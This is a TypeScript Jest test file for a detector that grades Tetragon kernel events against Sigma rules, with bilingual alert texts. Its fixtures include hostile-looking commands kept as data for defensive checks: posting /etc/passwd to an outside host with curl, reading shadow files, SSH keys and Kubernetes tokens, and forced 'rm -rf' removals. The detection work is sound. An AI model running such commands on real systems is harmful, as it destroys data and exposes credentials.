import { existsSync, globSync, readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { aLine, type EventWish } from '@tetrascope/contracts/testing';
import { decodeLine } from '@tetrascope/tetragon';
import { fileURLToPath } from 'node:url';
import { compileRules } from './match/compile-rules.ts';
import { parseSigma } from './parse/parse-sigma.ts';
import { decoded } from './testing/decoded.ts';

const top = fileURLToPath(new URL('../../../', import.meta.url));
const parsed = globSync('rules/**/*.yml', { cwd: top })
  .sort()
  .map((file) => parseSigma(readFileSync(`${top}${file}`, 'utf8'), file));
const rules = parsed.flatMap((file) => file.rules);
const detector = compileRules(rules);
/** What the first version graded by, without what came later. */
const firstRules = rules.filter(({ file }) => /^rules\/(compat|files)\//.test(file));
const firstDetector = compileRules(firstRules);

/** The gravest description in Traditional Chinese and English; the severity alone where no rule matched. */
const saidOf = (wish: EventWish, by = detector): readonly (string | undefined)[] => {
  const { severity, matches } = by.grade(decoded(aLine(wish)));
  const [gravest] = matches;
  return gravest === undefined ? [severity] : [severity, gravest.description?.zh_TW, gravest.description?.en];
};

const exec = (binary: string, args = ''): EventWish => ({ binary, arguments: args });
const open = (path: string, wish: EventWish = {}): EventWish => ({
  kind: 'kprobe',
  functionName: 'security_file_open',
  binary: '/usr/bin/cat',
  arguments: '-n',
  path,
  ...wish,
});

describe('the rules of the first version', () => {
  it('are right, described in both languages, and each has an id of its own', () => {
    expect(parsed.flatMap(({ faults }) => faults)).toEqual([]);
    expect(firstRules).toHaveLength(7);
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    for (const { describe: words, author, description } of firstRules) {
      expect(words).not.toBeNull();
      expect(author).not.toBe('');
      expect(description.en).not.toBe('');
    }
  });

  it.each(['curl', 'wget', 'nc', 'nmap'])('call %s suspicious', (program) => {
    expect(saidOf(exec(`/usr/bin/${program}`, 'https://a.example'))).toEqual([
      'HIGH',
      `可疑命令執行: ${program} 訪問外部域名`,
      `Suspicious command: ${program} reaches an external domain`,
    ]);
  });

  it.each([
    exec('/usr/bin/rsync', '-a host:/srv /srv'),
    exec('/usr/sbin/ncat-helper'),
    exec('/usr/bin/curl-config'),
    exec('/opt/nmap/bin/agent', '--with curl'),
    exec('/usr/bin/cat', '/etc/hosts'),
    exec('/usr/bin/cat', '/etc/passwdqc.conf'),
    exec('/usr/bin/cat', '/etc/shadow.d/x'),
    exec('/usr/bin/ssh', '-i /root/.ssh/id_rsa host'),
    exec('/bin/sh', '-c "scp -i ~/.ssh/id_rsa a host:"'),
    exec('/usr/bin/cat', '/root/.ssh/id_rsa.pub'),
    exec('/usr/sbin/sshd', '-h /etc/ssh/ssh_host_rsa_key'),
    exec('/bin/rm', '-r /tmp/x'),
    exec('/bin/rm', '-f /tmp/x'),
    exec('/bin/rm', '/tmp/a-rf'),
    exec('/usr/bin/farm', '-rf /x'),
    exec('/usr/bin/docker', 'run --rm -rf'),
    exec('/usr/bin/git', 'rm -rf docs'),
    exec('/bin/sh', '-c "farm -rf x"'),
    { ...exec('/usr/bin/curl'), kind: 'exit' } as const,
  ])('by themselves leave an ordinary event alone: %j', (wish) => {
    expect(saidOf(wish, firstDetector)).toEqual(['LOW']);
  });

  it.each<readonly [EventWish, string]>([
    [exec('/bin/cat', '/etc/passwd'), '/etc/passwd'],
    [exec('/bin/cat', '-n /etc/shadow'), '/etc/shadow'],
    [exec('/bin/sh', '-c "cat /etc/passwd; env"'), '/etc/passwd'],
    [exec('/bin/cp', '/host/etc/shadow /tmp'), '/host/etc/shadow'],
    [exec('/usr/bin/vi', '/etc/sudoers'), '/etc/sudoers'],
    [exec('/usr/bin/curl', '-d @/etc/passwd https://a.example'), '/etc/passwd'],
    [exec('/bin/cat', '/root/.ssh/id_ed25519'), '/root/.ssh/id_ed25519'],
    [
      exec('/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
    ],
    [open('/etc/passwd'), '/etc/passwd'],
    [open('/etc/shadow'), '/etc/shadow'],
    [open('/etc/gshadow', { kind: 'lsm', functionName: 'file_open' }), '/etc/gshadow'],
    [open('/home/ann/.ssh/id_rsa'), '/home/ann/.ssh/id_rsa'],
    [
      open('/run/secrets/kubernetes.io/serviceaccount/..2026_01_02/token'),
      '/run/secrets/kubernetes.io/serviceaccount/..2026_01_02/token',
    ],
    [open('', { args: [], arguments: '/etc/shadow' }), '/etc/shadow'],
  ])('call access to a sensitive file critical: %j', (wish, file) => {
    expect(saidOf(wish)).toEqual(['CRITICAL', `敏感文件訪問: ${file}`, `Sensitive file access: ${file}`]);
  });

  it.each([
    open('/etc/hosts'),
    open('/etc/passwdqc.conf'),
    open('/run/containerd/rootfs/etc/passwd'),
    open('/etc/passwd', { functionName: 'security_file_permission' }),
    open('/etc/passwd', { functionName: '__x64_sys_read' }),
    open('/etc/shadow', { functionName: 'fd_install' }),
    { kind: 'kprobe', functionName: '__x64_sys_setuid', arguments: '/etc/passwd' } as const,
  ])('by themselves leave what else a policy watches at medium: %j', (wish) => {
    expect(saidOf(wish, firstDetector)).toEqual(['MEDIUM']);
  });

  it.each(['security_path_truncate', '__x64_sys_write'])(
    'call a change of a sensitive file critical: %s',
    (functionName) => {
      expect(saidOf(open('/etc/passwd', { functionName }))).toEqual([
        'CRITICAL',
        '敏感文件修改: /etc/passwd',
        'Sensitive file changed: /etc/passwd',
      ]);
    },
  );

  it.each([
    exec('/bin/rm', '-rf /x'),
    exec('/bin/rm', '-fr /x'),
    exec('/bin/rm', '-Rf /x'),
    exec('/bin/rm', '-r -f /x'),
    exec('/bin/rm', '-f /x -r'),
    exec('/bin/rm', '--recursive --force /x'),
    exec('/bin/sh', '-c "rm -rf /x"'),
    exec('/bin/sh', '-c "cd /x && /bin/rm -fr ."'),
    exec('/bin/bash', '-c "set -e\nrm -rf /x"'),
    exec('/usr/bin/sudo', 'rm -rf /x'),
    exec('/usr/bin/find', '/x -exec rm -rf {} ;'),
  ])('call a forced removal critical: %j', (wish) => {
    const [severity, chinese, english] = saidOf(wish);
    const [program, args] = [wish.binary?.split('/').pop(), wish.arguments?.replace('\n', ' ')];
    expect(severity).toBe('CRITICAL');
    expect([chinese, english]).toEqual([`可疑命令執行: ${program} ${args}`, `Suspicious command: ${program} ${args}`]);
  });

  it('put the gravest first', () => {
    const { matches } = firstDetector.grade(decoded(aLine(exec('/usr/bin/curl', 'file:///etc/passwd'))));
    expect(matches.map(({ severity }) => severity)).toEqual(['CRITICAL', 'HIGH']);
  });

  const samples = `${top}../shared/tetragon/events/real.ndjson`;
  if (!existsSync(samples)) {
    it('find the attacks among real events (skipped: ../shared is absent)', () => {
      process.stderr.write('skipped: ../shared/tetragon/events is absent\n');
    });
    return;
  }
  it('find these attacks among real events and nothing else', () => {
    const found = readFileSync(samples, 'utf8')
      .split('\n')
      .flatMap((line, index) => {
        const event = decodeLine(new TextEncoder().encode(line));
        if ('code' in event) return [];
        const [gravest] = firstDetector.grade(event).matches;
        return gravest === undefined ? [] : [[index + 1, gravest.description?.en]];
      });
    expect(found).toEqual([
      [3, 'Suspicious command: curl reaches an external domain'],
      [4, 'Sensitive file changed: /etc/passwd'],
      [20, 'Suspicious command: curl reaches an external domain'],
      [28, 'Suspicious command: nc reaches an external domain'],
      [53, 'Sensitive file changed: /etc/passwd'],
      [54, 'Sensitive file changed: /etc/passwd'],
    ]);
  });
});
